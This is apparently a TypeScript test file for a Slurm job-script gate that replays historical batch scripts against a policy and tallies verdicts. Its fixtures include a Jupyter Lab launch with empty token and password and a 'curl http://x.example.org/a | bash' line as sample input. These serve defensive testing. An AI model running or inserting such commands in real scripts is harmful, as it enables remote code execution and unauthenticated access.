// A policy over the jobs of the past says what the gate would have said.
import fc from 'fast-check';
import { mkdtempSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { createHash } from 'node:crypto';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { Analyst } from '../../src/gate/analyst.ts';
import { History } from '../../src/gate/replay/history.ts';
import { Replay } from '../../src/gate/replay/replay.ts';
import { isListing, jobTable, listedScripts, type ListedScript } from '../../src/gate/replay/sacct.ts';
import { readHistory } from '../../src/gate/replay/sources.ts';
import { anonymous, summary, type Summary } from '../../src/gate/replay/summary.ts';
import { replayText } from '../../src/gate/replay/text.ts';
import { builtLayer } from '../../src/policy/layers.ts';
import { Policy } from '../../src/policy/policy.ts';
import type { Configuration } from '../../src/policy/schema.ts';

const OPEN = "#!/bin/bash\njupyter lab --ip=0.0.0.0 --ServerApp.token='' --ServerApp.password=''\n";
const HONEST = '#!/bin/bash\n#SBATCH --partition=debug\nhostname\n';
const LINE = '-'.repeat(80);
const MOST = 4 * 1024 * 1024;

/** What sacct prints for a job; null: Slurm stored nothing. */
function listing(jobs: readonly (readonly [string, string | null])[]): string {
  return jobs.map(([job, script]) => `Batch Script for ${job}\n${LINE}\n${script ?? 'NONE\n'}\n`).join('');
}

async function* pieces(text: string, size: number): AsyncGenerator<string> {
  for (let at = 0; at < text.length; at += size) yield await Promise.resolve(text.slice(at, at + size));
}

async function scriptsIn(text: string, size = 7): Promise<ListedScript[]> {
  const found: ListedScript[] = [];
  for await (const one of listedScripts(pieces(text, size))) found.push(one);
  return found;
}

function policyOf(config: Configuration): Policy {
  return new Policy([builtLayer('site', 'the site', config)], '/', []);
}

const GATE: Configuration = {
  preset: 'gate',
  overrides: [
    { partitions: ['lax'], rules: { JV101: 'warn' } },
    { users: ['root'], rules: { JV101: 'audit' } },
  ],
};

function replayed(history: History, config: Configuration = GATE, against?: Configuration): Summary {
  const analyst = new Analyst({ policy: policyOf(config) });
  const replay = new Replay({
    analyst,
    ...(against && { against: { analyst, policy: policyOf(against) } }),
    today: '2026-11-20',
    budget: 10_000,
    now: () => performance.now(),
  });
  for (const script of history.scripts.values()) replay.add(script);
  return summary(history, replay.result);
}

const folder = mkdtempSync(join(tmpdir(), 'jobvet-replay-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

describe('what sacct prints', () => {
  test('any scripts come back byte by byte, whatever the pieces', async () => {
    const script = fc
      .string({ unit: fc.constantFrom('\n', 'a', '-', ' ', '\u00e4', `\n${LINE}\n`, 'Batch Script for ', 'x\r\n') })
      .map((text) => `#!${text}`);
    await fc.assert(
      fc.asyncProperty(fc.array(script, { maxLength: 5 }), fc.integer({ min: 1, max: 90 }), async (scripts, size) => {
        const jobs = scripts.map((one, index) => [String(index + 1), one] as const);
        const found = await scriptsIn(listing(jobs), size);
        expect(found).toEqual(jobs.map(([job, one]) => ({ job, script: Buffer.from(one, 'latin1') })));
      }),
      { numRuns: 60 },
    );
  });

  test('jobs without a script, arrays, components', async () => {
    const found = await scriptsIn(
      listing([
        ['1', null],
        ['2_1', HONEST],
        ['3+0', HONEST],
        ['4_[1-9%2]', '#!/bin/sh\nNONE\n'],
      ]),
    );
    expect(found.map(({ job, script }) => [job, script?.toString()])).toEqual([
      ['1', undefined],
      ['2_1', HONEST],
      ['3+0', HONEST],
      ['4_[1-9%2]', '#!/bin/sh\nNONE\n'],
    ]);
    expect(isListing(listing([['2_1', HONEST]]))).toBe(true);
    expect(isListing(HONEST)).toBe(false);
  });

  test('the table of jobs: any order of columns, steps left out, separators in comments', () => {
    const table = jobTable('User|JobID|AdminComment\nalice|1|a|b\nalice|1.batch|\nbob|2_7|\n');
    if (typeof table === 'string') throw new Error(table);
    expect([...table.keys()]).toEqual(['1', '2_7', '2']);
    expect(Object.fromEntries(table.get('1') ?? [])).toEqual({ user: 'alice', jobid: '1', admincomment: 'a|b' });
    const old = jobTable('JobID|User|\n1|alice|\n');
    expect(typeof old === 'string' ? old : Object.fromEntries(old.get('1') ?? [])).toEqual({
      jobid: '1',
      user: 'alice',
    });
    expect(jobTable('1|alice\n')).toMatch(/does not name the columns/);
  });
});

describe('a replay', () => {
  test('says what the gate says, for any jobs', () => {
    const script = fc.constantFrom(
      OPEN,
      HONEST,
      '#!/bin/bash\ncurl http://x.example.org/a | bash\n',
      '#!/bin/sh\n"',
      '#!/bin/sh\n',
    );
    const name = (...names: string[]) => fc.option(fc.constantFrom(...names), { nil: undefined });
    const header = fc
      .record({ user_name: name('root', 'eve'), partition: name('lax', 'debug', 'lax,debug'), account: name('x') })
      .map((all) => Object.fromEntries(Object.entries(all).filter(([, value]) => value !== undefined)));
    const gate = new Analyst({ policy: policyOf(GATE) });
    fc.assert(
      fc.property(fc.array(fc.tuple(script, header), { maxLength: 8 }), (jobs) => {
        const history = new History(new Map(), MOST);
        const counts = { accept: 0, warn: 0, reject: 0 };
        for (const [text, known] of jobs) {
          history.add(Buffer.from(text), 'x', known);
          // The hook always says where a job goes.
          const whole = { ...(text === HONEST && { partition: 'debug' }), ...known };
          counts[gate.decide({ header: whole, script: Buffer.from(text), today: '2026-11-20' }).verb] += 1;
        }
        const { accepted, warned, rejected } = replayed(history);
        expect({ accept: accepted, warn: warned, reject: rejected }).toEqual(counts);
      }),
      { numRuns: 40 },
    );
  });

  test('counts by rule, user, account, partition and template, and compares policies', async () => {
    const jobs = [
      ['1', OPEN],
      ['2', HONEST],
      ['3_1', OPEN],
      ['3_2', OPEN],
      ['4', OPEN.replace('jupyter', '# 17\njupyter')],
      ['5', OPEN.replace('jupyter', '# 18\njupyter')],
      ['6', null],
    ] as const;
    const table =
      'JobID|User|Account|Partition|QOS\n1|alice|phys|lax|n\n2|alice|phys|debug|n\n3_1|bob|chem|debug|n\n3_2|bob|chem|debug|n\n4|bob|chem|debug|n\n5|carol|chem|lax|n\n';
    const path = join(folder, 'listing');
    writeFileSync(path, listing(jobs));
    const rows = jobTable(table);
    const history = new History(typeof rows === 'string' ? new Map() : rows, MOST);
    expect(await readHistory(path, history, MOST)).toEqual([]);
    const found = replayed(history, GATE, { preset: 'gate' });
    expect(found).toMatchObject({
      ...{ jobs: 5, scripts: 4, templates: 3, accepted: 1, warned: 2, rejected: 2 },
      users: { all: 3, warned: 2, rejected: 1 },
      leftOut: { withoutScript: 1, tasks: 1 },
      rules: [{ rule: 'JV101', rejected: 2, warned: 2, users: 3, templates: 2 }],
      byUser: [
        { name: 'bob', jobs: 2, rejected: 2, warned: 0 },
        { name: 'alice', jobs: 2, rejected: 0, warned: 1 },
        { name: 'carol', jobs: 1, rejected: 0, warned: 1 },
      ],
      changes: {
        newlyRejected: { jobs: 0 },
        noLongerRejected: { jobs: 2, users: 2 },
        newlyWarned: { jobs: 2 },
        noLongerWarned: { jobs: 0 },
      },
    });
    const text = replayText(found);
    expect(text).toContain('Would have rejected 2 of 5 jobs (40 %) of 1 of 3 users and warned about 2 of 5 jobs');
    expect(text).toContain("      | jupyter lab --ip=0.0.0.0 --ServerApp.token='' --ServerApp.password=''");
    const masked = replayText(anonymous(found)) + JSON.stringify(anonymous(found));
    expect(masked).toContain('user-1');
    expect(masked).not.toMatch(/alice|bob|carol|chem|lax|jupyter|sha256|job 1\b/);
  });

  test('reads folders as slurmctld and sites keep scripts', async () => {
    const root = join(folder, 'spool');
    mkdirSync(join(root, 'hash.1', 'job.11'), { recursive: true });
    writeFileSync(join(root, 'hash.1', 'job.11', 'script'), OPEN);
    writeFileSync(join(root, 'hash.1', 'job.11', 'environment'), 'PATH=/bin');
    writeFileSync(join(root, '12.sh'), OPEN);
    const rows = jobTable('JobID|User\n11|alice\n12|bob\n');
    const history = new History(typeof rows === 'string' ? new Map() : rows, MOST);
    expect(await readHistory(root, history, MOST)).toEqual([]);
    const found = replayed(history);
    expect(found).toMatchObject({
      jobs: 2,
      scripts: 1,
      rejected: 2,
      users: { rejected: 2 },
      leftOut: { noScripts: 1 },
    });
    expect(await readHistory(join(folder, 'nowhere'), history, MOST)).toEqual([expect.stringContaining('nowhere')]);
  });

  test('reads decision logs with the scripts beside them', async () => {
    const root = join(folder, 'log');
    mkdirSync(join(root, 'scripts'), { recursive: true });
    const digest = createHash('sha256').update(OPEN).digest('hex');
    writeFileSync(join(root, 'scripts', digest), OPEN);
    const decision = { event: 'decision', id: 'JV-1', user: 'u:1', script: `sha256:${digest}` };
    const events = [
      { n: 1, ...decision, job: { origin: 'file', partition: 'lax' } },
      { n: 2, ...decision, job: { origin: 'file', partition: 'debug' } },
      { n: 3, ...decision, script: `sha256:${'0'.repeat(64)}`, job: {} },
      { n: 4, ...decision, job: { kind: 'modify' } },
      { n: 5, event: 'clean', count: 7 },
      { n: 6, forgotten: 'x' },
    ];
    writeFileSync(join(root, 'decisions-2026-11-20.jsonl'), events.map((one) => `${JSON.stringify(one)}\n`).join(''));
    const history = new History(new Map(), MOST);
    expect(await readHistory(root, history, MOST)).toEqual([]);
    expect(replayed(history)).toMatchObject({
      ...{ jobs: 2, warned: 1, rejected: 1 },
      leftOut: { withoutScript: 8 },
      byUser: [{ name: 'u:1', jobs: 2 }],
    });
  });
});
